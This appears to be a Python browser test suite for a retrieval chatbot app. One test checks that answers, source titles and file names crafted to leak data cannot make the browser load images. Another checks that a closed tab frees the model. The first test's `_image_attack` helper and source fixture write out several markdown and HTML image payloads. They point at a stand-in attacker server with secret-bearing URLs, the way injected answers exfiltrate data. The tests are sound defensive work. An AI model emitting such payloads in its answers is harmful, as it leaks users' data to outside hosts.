"""The real app in headless Chromium, as an attacker would use it: an answer (and a source's file name) written
to exfiltrate data through images must make the browser fetch nothing, and a tab closed mid-answer must free
the model for the next user at once."""

from __future__ import annotations

import http.server
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager

from test_browser import CHROMIUM, FLAGS, ROOT, _require_browser, running_app

from chatbot.memory import Conversations
from chatbot.settings import load_settings
from retrieval.collection import Collection

OWNER_KEY = "0123456789abcdef0123456789abcdef"


@contextmanager
def canary() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on a loopback port that records every path requested from it."""
    hits: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the http.server API
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.end_headers()

        def log_message(self, *args) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", hits
    finally:
        server.shutdown()


def _image_attack(url: str) -> str:
    """The four forms that got past the old filter (each makes Chromium fetch ``url`` when rendered)."""
    return (
        "Here is the answer [1].\n\n"
        f"Shortcut reference: ![logo]\n\n[logo]: {url}/shortcut.png?secret=1\n\n"
        f"Nested brackets: ![a [b] c]({url}/nested.png?secret=2)\n\n"
        f"Escaped bracket: ![a\\]b]({url}/escaped.png?secret=3)\n\n"
        f"Nested reference: ![a [b]][r]\n\n[r]: {url}/nested-reference.png?secret=4\n\n"
        f"And the plain one: ![x]({url}/plain.png?secret=5)\n"
    )


def test_answers_and_file_names_never_make_the_browser_fetch_an_image(app_env, monkeypatch, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    _require_browser()
    for key, value in app_env.items():
        monkeypatch.setenv(key, value)
    settings = load_settings()
    Collection.open(settings, "sample").sync(ROOT / "data" / "sample")
    with canary() as (url, hits), running_app(app_env, tmp_path) as app:
        # the passage the answer quotes: shown under the answer with the quote in bold, all of it as text
        passage = (
            f"www.evil.example ![p]({url}/passage.png?secret=8) then the quoted words [r] <img src='{url}/h.png'> "
            f"{url}/bare bob@evil.example."
            f"\n\n[r]: {url}/reference.png?secret=9"
        )
        quoted = passage.index("the quoted words")
        source = {
            "number": 1,
            "source": f"notes`![x]({url}/file-name.png?secret=6)`.md",
            "text": passage,
            "quote": [quoted, quoted + len("the quoted words")],
            "score": 0.5,
            "label": "notes",
            "title": f"![t]({url}/title.png?secret=7)",
            "page": None,
            "cited": True,
        }
        store = Conversations(settings.data_dir / "conversations.sqlite")
        conv = store.create("Where are the docs?", owner=f"browser:{OWNER_KEY}")
        store.add_message(conv, "user", "Where are the docs?")
        store.add_message(conv, "assistant", _image_attack(url), [source])
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
            page = browser.new_page()
            page.context.add_cookies([{"name": "assistant_session", "value": OWNER_KEY, "url": app}])
            page.goto(app)
            page.get_by_role("button", name="Where are the docs?").click()
            expect(page.get_by_text("Here is the answer").first).to_be_visible(timeout=60_000)
            bold = page.get_by_test_id("stCaptionContainer").locator("strong")
            expect(bold).to_have_text("the quoted words", timeout=30_000)
            shown = page.get_by_test_id("stCaptionContainer").filter(has=page.locator("strong"))
            caption, links = shown.inner_text().replace("\u2060", ""), shown.locator("a").count()
            sources = page.get_by_test_id("stExpander").filter(has_text="Sources (").first
            sources.click()
            expect(page.get_by_text("relevance 0.50").first).to_be_visible(timeout=30_000)
            # the passage in the Sources: the same quote in bold, the rest as text
            expect(sources.locator("strong").filter(has_text="the quoted words")).to_have_count(1)
            passage_links = sources.locator("a").count()
            shown_passage = sources.inner_text().replace("\u2060", "")
            page.wait_for_timeout(2_000)  # time for any image request to go out
            images = page.locator(f"img[src^='{url}']").count()
            browser.close()
    print(f"\n[images] requests the page made to the attacker's server: {hits}")
    assert conv
    assert hits == [] and images == 0, hits
    # the passage's own markup is shown as the text it is, around the bold quote
    assert passage.split("\n")[0] in caption and links == 0, caption
    assert passage.split("\n")[0] in shown_passage and passage_links == 0, shown_passage


def test_closing_a_tab_mid_answer_frees_the_model_for_the_next_user(app_env, long_llm_dir, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    _require_browser()
    env = {
        **app_env,
        "APP_MODELS__GENERATOR": str(long_llm_dir),
        "APP_GENERATION__MAX_NEW_TOKENS": "4096",  # ~15 s of generation if nobody stops it
        "APP_CHAT__MIN_RELEVANCE": "-1",  # always ask the model
    }
    settings = load_settings(data_dir=env["APP_DATA_DIR"], models={"embedding": env["APP_MODELS__EMBEDDING"]})
    Collection.open(settings, "sample").sync(ROOT / "data" / "sample")
    with running_app(env, tmp_path) as app, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        first = browser.new_context().new_page()
        _ask(first, app, "How do I delete a collection?")
        answer = first.get_by_test_id("stChatMessage").nth(1)
        expect(answer).to_contain_text("▌", timeout=120_000)  # streaming: the model is generating
        first.context.close()  # the tab goes away mid-answer
        closed = time.perf_counter()
        second = browser.new_context().new_page()
        _ask(second, app, "How do I index a folder?")
        expect(second.get_by_test_id("stChatMessage").nth(1)).to_contain_text("▌", timeout=60_000)
        waited = time.perf_counter() - closed
        browser.close()
    print(
        f"\n[browser disconnect] the next user's answer started streaming {waited:.1f} s after the tab closed"
    )
    assert waited < 8, waited  # before: the rest of the abandoned 4,096-token answer, ~15 s


def _ask(page, app: str, question: str) -> None:
    from playwright.sync_api import expect

    page.goto(app)
    box = page.get_by_test_id("stChatInputTextArea")
    expect(box).to_be_visible(timeout=60_000)
    box.fill(question)
    box.press("Enter")
